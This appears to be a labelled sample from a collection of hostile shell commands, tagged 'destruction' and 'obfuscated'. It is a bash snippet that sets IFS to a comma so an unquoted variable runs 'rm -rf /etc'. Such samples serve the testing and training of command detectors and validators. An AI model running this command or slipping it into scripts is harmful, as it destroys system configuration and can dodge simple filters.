# description: Sets IFS to a comma so an unquoted string splits into rm -rf /etc.
# family: destruction
# obfuscated: yes
IFS=,
CMD="rm,-rf,/etc"
$CMD
